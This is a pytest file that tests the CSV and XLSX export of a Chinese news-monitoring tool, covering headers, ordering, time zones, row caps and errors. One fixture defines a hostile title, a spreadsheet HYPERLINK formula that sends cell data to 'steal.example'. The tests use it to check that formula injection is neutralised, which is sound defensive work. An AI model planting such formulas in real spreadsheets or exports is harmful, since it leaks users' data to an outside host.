"""Exporting a search as CSV and XLSX from the real web server (``newsmon serve`` in its own
process) over real government pages (``output_corpus``), plus one hostile page whose title
and source are spreadsheet formulas. The files are parsed as Excel would read them: the BOM, the
Chinese header row, the rows of the search in its order, times in NEWSMON_TZ, the
formulas neutralised, the row cap's note."""
from __future__ import annotations

import csv
import html
import re
import subprocess
import sys
import io
import zipfile
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
from openpyxl import load_workbook

from conftest import REPO, newsmon_env, run_newsmon
from index import open_index
from monitor.clock import local_day, show
from monitor.exports import COLUMNS
from output_corpus import build_corpus
from pipelines.extract import extract_article
from pipelines.records import build_record
from web_server import serving

FORMULA_PAGE = Path(__file__).parent / "web" / "formula_page.html"
FORMULA_URL = "http://www.sczf.gov.cn/zcjd/202109/t20210916_4188001.html"
FORMULA_TITLE = '=HYPERLINK("http://steal.example/?d="&A2,"宿城区激光产业园招商政策解读")'
QUERY = "宿城区"


@pytest.fixture(scope="module")
def index_url(tmp_path_factory) -> str:
    """Recent government pages plus the hostile page (a story of its own on sucheng-gov)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('exports')}/newsmon.db"
    build_corpus(url, local_day())
    article = extract_article(FORMULA_PAGE.read_bytes(), FORMULA_URL, {"Content-Type": "text/html; charset=utf-8"})
    record = build_record(article, site="sucheng-gov", fetched_at="2021-09-16T03:00:00+00:00",
                          region="江苏省宿迁市宿城区")
    record.story_id, record.canonical = "s-" + record.id[:16], True
    with open_index(url) as index:
        index.upsert_article(record)
    return url


@pytest.fixture(scope="module")
def server(index_url):
    with serving(index_url) as base:
        yield base


def get(base: str, path: str, **params) -> httpx.Response:
    return httpx.get(base + path, params=params, timeout=60)


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "Excel on Chinese Windows needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_export_holds_the_search_in_its_order_with_chinese_headers(server):
    api = get(server, "/api/search", q=QUERY, limit=1000).json()
    response = get(server, "/export", q=QUERY, format="csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and "宿城区" in unquote(disposition.split("UTF-8''", 1)[1])
    rows = csv_rows(response.content)
    assert rows[0] == list(COLUMNS) and rows[0][:5] == ["标题", "来源", "地区", "发布时间", "链接"]
    body = rows[1:]
    assert len(body) == api["total"] == len(api["stories"]) > 4
    assert int(response.headers["x-newsmon-total"]) == api["total"]
    for row, story in zip(body, api["stories"]):
        title = story["title"] if not story["title"].startswith("=") else "'" + story["title"]
        assert row[0] == title and row[1] == story["site"] and row[4] == story["url"]
        assert row[3] == show(story["published"])           # NEWSMON_TZ, to the minute
        assert int(row[5]) == len(story["copies"]) and int(row[6]) == story["reach"]


def test_csv_cells_that_look_like_formulas_are_neutralised(server):
    rows = csv_rows(get(server, "/export", q="激光产业园招商政策", format="csv").content)
    hostile = next(row for row in rows[1:] if "steal.example" in row[0])
    assert hostile[0] == "'" + FORMULA_TITLE                 # shown as text, never run
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_xlsx_export_types_hostile_text_as_strings_and_times_as_dates(server):
    response = get(server, "/api/export", q=QUERY, format="xlsx", site="sucheng-gov")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    api = get(server, "/api/search", q=QUERY, site="sucheng-gov", limit=1000).json()
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["报道", "说明"]
    sheet = book["报道"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(COLUMNS)
    assert [r[0] for r in rows[1:]] == [s["title"] for s in api["stories"]]
    hostile = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == FORMULA_TITLE)
    assert hostile[0].data_type == "s"                        # text, not a formula
    assert hostile[3].is_date and hostile[3].value.strftime("%Y-%m-%d %H:%M") == "2021-09-16 10:05"
    xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml            # no formula anywhere in the sheet
    about = dict(book["说明"].iter_rows(values_only=True))
    assert about["查询"] == QUERY and about["站点"] == "sucheng-gov" and about["符合条件的报道"] == api["total"]


def test_a_result_over_the_row_cap_is_cut_with_a_note(index_url):
    with serving(index_url, NEWSMON_EXPORT_MAX_ROWS="3") as base:
        total = get(base, "/api/search", q=QUERY).json()["total"]
        rows = csv_rows(get(base, "/export", q=QUERY, format="csv").content)
        book = load_workbook(io.BytesIO(get(base, "/export", q=QUERY, format="xlsx").content))
    assert len(rows) == 1 + 3 + 1
    assert rows[-1][0].startswith(f"注：共有 {total} 条报道符合条件，只导出了前 3 条")
    sheet_rows = list(book["报道"].iter_rows(values_only=True))
    assert len(sheet_rows) == 1 + 3 + 1 and sheet_rows[-1][0].startswith("注：共有")


def test_export_errors_are_clear_and_in_chinese(server):
    bad_format = get(server, "/api/export", q=QUERY, format="pdf")
    assert bad_format.status_code == 400 and "不是可导出的格式" in bad_format.json()["error"]
    no_query = get(server, "/api/export", format="csv")
    assert no_query.status_code == 400 and "请给出要导出的查询" in no_query.json()["error"]
    page = get(server, "/export", q="(激光", format="csv")
    assert page.status_code == 400 and "text/html" in page.headers["content-type"]


def test_the_search_pages_download_links_keep_the_query_and_filters(server):
    page = get(server, "/", q=QUERY, site="sucheng-gov", since="2020-01-01", sort="relevance")
    links = dict(re.findall(r'id="export-(csv|xlsx)" href="([^"]+)"', page.text))
    assert set(links) == {"csv", "xlsx"}
    for fmt, href in links.items():
        target = httpx.URL(server + html.unescape(href))
        assert target.path == "/export" and target.params["format"] == fmt
        assert (target.params["q"], target.params["site"], target.params["since"], target.params["sort"]) == \
            (QUERY, "sucheng-gov", "2020-01-01", "relevance")
    rows = csv_rows(httpx.get(server + html.unescape(links["csv"])).content)
    assert rows[1:] and all(row[1] == "sucheng-gov" for row in rows[1:])


def test_newsmon_search_writes_the_same_spreadsheets(server, index_url, tmp_path):
    web_csv = csv_rows(get(server, "/export", q=QUERY, format="csv").content)
    cli = subprocess.run([sys.executable, "-m", "crawler", "search", QUERY, "--format", "csv", "--index", index_url],
                         capture_output=True, env=newsmon_env(), cwd=REPO, timeout=120)
    assert cli.returncode == 0, cli.stderr.decode()
    assert csv_rows(cli.stdout) == web_csv
    assert f"导出 {len(web_csv) - 1} / {len(web_csv) - 1} 条报道" in cli.stderr.decode()
    out = tmp_path / "激光.xlsx"
    done = run_newsmon("search", QUERY, "--format", "xlsx", "--out", out, "--index", index_url)
    assert done.returncode == 0, done.stderr
    sheet = load_workbook(out)["报道"]
    assert [row[0] for row in sheet.iter_rows(values_only=True)] == [row[0].removeprefix("'") for row in web_csv]
    refused = run_newsmon("search", QUERY, "--format", "xlsx", "--index", index_url)
    assert refused.returncode == 2 and "--out" in refused.stderr
